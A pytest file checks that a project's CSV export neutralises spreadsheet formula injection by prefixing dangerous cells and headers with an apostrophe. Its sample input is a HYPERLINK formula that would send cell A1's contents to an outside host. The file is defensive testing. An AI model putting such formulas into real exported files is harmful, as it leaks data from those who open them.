"""CSV for spreadsheets: what a cell holds is shown, never run."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from conftest import Home, sealed_candidate

from onefunnel import publish
from onefunnel.ledger import Ledger
from onefunnel.paths import Paths
from onefunnel.status import write_csv


def written(names: list[str], *rows: list[Any]) -> list[list[str]]:
    to = io.StringIO(newline="")
    write_csv(names, [dict(zip(names, row, strict=True)) for row in rows], to)
    return list(csv.reader(io.StringIO(to.getvalue(), newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    text = f'{start}HYPERLINK("http://example.com?"&A1,"x")'
    assert written(["name"], [text]) == [["name"], ["'" + text]]
    assert written([text], ["x"]) == [["'" + text], ["x"]], "a column can be named by the query"


def test_numbers_and_usual_text_are_left_alone() -> None:
    row = [Decimal("-12.50"), -3, "a=b", "Zürich, 100 %", "", None]
    names = list("abcdef")
    assert written(names, row) == [names, ["-12.50", "-3", "a=b", "Zürich, 100 %", "", ""]]


def test_the_command_line_guards_what_it_prints_as_csv(home: Home) -> None:
    paths = Paths(home.path, home.project)
    sealed_candidate(home, "r1")
    publish.publish(paths, Ledger(paths.ledger, paths.locks), "r1")
    done = home.cli("query", "select '=1+1' as formula, 'plain' as text, -2 as number", "--format", "csv")
    assert done.returncode == 0, done.stderr
    assert list(csv.reader(io.StringIO(done.stdout))) == [["formula", "text", "number"], ["'=1+1", "plain", "-2"]]
